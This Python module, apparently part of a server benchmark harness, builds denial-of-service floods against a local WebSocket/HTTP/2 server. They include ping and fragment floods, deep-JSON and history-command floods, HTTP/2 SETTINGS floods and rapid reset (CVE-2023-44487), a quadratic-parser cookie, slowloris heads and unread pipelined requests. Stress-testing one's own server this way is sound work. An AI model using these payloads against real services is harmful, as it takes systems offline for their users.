"""The bytes of the attackers: each flood is a value that a loop can send without any thought.

Pure functions; no socket here. `attack` sends the bytes, and reads the answers away.
"""

from __future__ import annotations

from collections.abc import Sequence
from typing import Final

import msgspec

from benchmarks.generator.protocol import Greeting
from benchmarks.generator.wire import PING_OPCODE, TEXT_OPCODE, client_frame

_BURST: Final = 65_536  # bytes that are offered to the kernel at once
_HEAD_END: Final = b"\r\n\r\n"
_COOKIE: Final = 15_000  # bytes: with the rest, below the 16 KiB that servers take as a head
_MESSAGE: Final = 61_000  # bytes: below the 64 KiB that Repeater takes as a message
_DEPTHS: Final = (1_000, 30_000)  # a value of 2 KB, and one that nearly fills a message
_CONTINUATION: Final = 0
_FINAL: Final = 0x80  # the first bit of a frame's first byte
_SETTINGS: Final = bytes((0, 0, 0, 4, 0, 0, 0, 0, 0))  # empty, on stream 0 (RFC 9113, section 6.5)
_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _SETTINGS
_GOAWAY: Final = bytes((7, 0, 0, 0, 0, 0))  # type, flags and stream (RFC 9113, section 6.8)
_CLOSE: Final = b"\x88"  # a close frame's first byte; neither pongs nor ASCII have this byte
_SLOW_CONNECTIONS: Final = 250
_SLOW_PAUSE: Final = 0.25  # seconds between two bytes of a slow head
_UNREAD_CONNECTIONS: Final = 25

HISTORY_CHANNEL: Final = "archive"
"""The channel of the history flood; the honest subscribers hear another."""
ATTACK_CHANNEL: Final = "attack"


class Step(msgspec.Struct, frozen=True):
    """Bytes that a connection sends once, before its flood begins."""

    send: bytes
    until: bytes = b""
    """Bytes in the answer for which the connection then waits; empty: it does not wait."""


class Flood(msgspec.Struct, frozen=True, kw_only=True):
    """What one connection of an attacker does, until the server cuts it."""

    steps: Sequence[Step]
    burst: bytes = b""
    """Sent again and again behind the steps. Without `burst` and `numbered`, the connection is
    reset behind the steps, and the next one begins."""
    numbered: Sequence[bytes] = ()
    """Instead of `burst`: parts between which the number of an HTTP/2 stream is written. The
    numbers are 1, 3, 5, ..."""
    reads: bool = True
    """Whether it reads what the server answers."""
    connections: int = 1
    """The connections that each attacker holds open at the same time."""
    pause: float = 0.0
    """Seconds between two bytes of the burst; 0: as fast as the server takes them."""
    goodbye: bytes = b""
    """Bytes that only an answer that ends the connection contains: the attacker counts as cut then,
    and does not wait until the server hangs up."""
    http2: bool = False
    """Whether it speaks HTTP/2, over TLS with ALPN."""


def pings(greeting: Greeting) -> Flood:
    """Empty WebSocket pings, each of which the server answers."""
    return Flood(
        steps=(Step(greeting.request, _HEAD_END),),
        burst=_repeated(client_frame(b"", PING_OPCODE)),
        goodbye=_CLOSE,
    )


def fragments(greeting: Greeting) -> Flood:
    """One WebSocket message of empty fragments, without an end."""
    first, more = _not_final(TEXT_OPCODE), _not_final(_CONTINUATION)
    return Flood(
        steps=(Step(greeting.request, _HEAD_END), Step(first)),
        burst=_repeated(more),
        goodbye=_CLOSE,
    )


def commands(greeting: Greeting, *lines: bytes) -> Flood:
    """Commands of a Centrifugo client, one in each message."""
    return Flood(
        steps=_connected(greeting),
        burst=_repeated(b"".join(map(client_frame, lines))),
        goodbye=_CLOSE,
    )


def refused_commands(greeting: Greeting) -> Flood:
    """Publishes without the permission to publish."""
    return commands(greeting, b'{"id":9,"publish":{"channel":"%s","data":{}}}' % _attacked())


def deep_json(greeting: Greeting) -> Flood:
    """Publishes and subscriptions whose data is an array in an array in an array, and so on."""
    lines = []
    for depth in _DEPTHS:
        data = b"[" * depth + b"]" * depth
        lines.append(b'{"id":9,"publish":{"channel":"%s","data":%s}}' % (_attacked(), data))
        lines.append(b'{"id":9,"subscribe":{"channel":"%s","data":%s}}' % (_attacked(), data))
    return commands(greeting, *lines)


def history_commands(greeting: Greeting) -> Flood:
    """Messages of 61 KB that are full of `history` commands, each for all publications."""
    line = b'{"id":9,"history":{"channel":"%s","limit":100}}' % HISTORY_CHANNEL.encode()
    message = b"\n".join([line] * (_MESSAGE // (len(line) + 1)))
    return Flood(steps=_connected(greeting), burst=client_frame(message), goodbye=_CLOSE)


def settings() -> Flood:
    """Empty HTTP/2 SETTINGS frames, each of which the server acknowledges."""
    return Flood(steps=(Step(_PREFACE),), burst=_repeated(_SETTINGS), goodbye=_GOAWAY, http2=True)


def reset_streams(path: str) -> Flood:
    """HTTP/2 requests that are reset at once ("rapid reset", CVE-2023-44487)."""
    # :method GET and :scheme https are whole entries of HPACK's static table, :path and :authority
    # are literals with indexed names (RFC 7541, section 6.2.2 and appendix A).
    block = b"\x82\x87\x04" + _text(path) + b"\x01" + _text("127.0.0.1")
    headers = len(block).to_bytes(3) + b"\x01\x05"  # END_STREAM and END_HEADERS
    reset = (4).to_bytes(3) + b"\x03\x00"
    cancel = (8).to_bytes(4)
    return Flood(
        steps=(Step(_PREFACE),),
        numbered=(headers, block + reset, cancel),
        goodbye=_GOAWAY,
        http2=True,
    )


def handshakes(greeting: Greeting) -> Flood:
    """Connections that are upgraded, and then reset."""
    return Flood(steps=(Step(greeting.request, _HEAD_END),))


def cookies(greeting: Greeting) -> Flood:
    """Requests with a cookie of quoted backslashes, at which a quadratic parser stalls."""
    cookie = b'Cookie: repeater_token="' + b"\\" * _COOKIE + b'"'
    request = greeting.request.removesuffix(_HEAD_END) + b"\r\n" + cookie + _HEAD_END
    return Flood(steps=(Step(request, _HEAD_END),))


def slow_heads() -> Flood:
    """Request heads that never end: one byte more each 250 ms, on many connections."""
    head = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "
    return Flood(steps=(Step(head),), burst=b"a", connections=_SLOW_CONNECTIONS, pause=_SLOW_PAUSE)


def unread_answers(path: str) -> Flood:
    """Pipelined GET requests whose answers are never read, on many connections."""
    request = f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode()
    return Flood(steps=(), burst=_repeated(request), reads=False, connections=_UNREAD_CONNECTIONS)


def _connected(greeting: Greeting) -> tuple[Step, ...]:
    return Step(greeting.request, _HEAD_END), Step(greeting.commands, greeting.ready)


def _not_final(opcode: int) -> bytes:
    frame = client_frame(b"", opcode)
    return bytes((frame[0] & ~_FINAL,)) + frame[1:]


def _repeated(unit: bytes) -> bytes:
    """As many as fit into a burst, at least one."""
    return unit * max(1, _BURST // len(unit))


def _attacked() -> bytes:
    return ATTACK_CHANNEL.encode()


def _text(value: str) -> bytes:
    """A string literal of HPACK, without Huffman coding, shorter than 127 bytes."""
    return bytes((len(value),)) + value.encode()
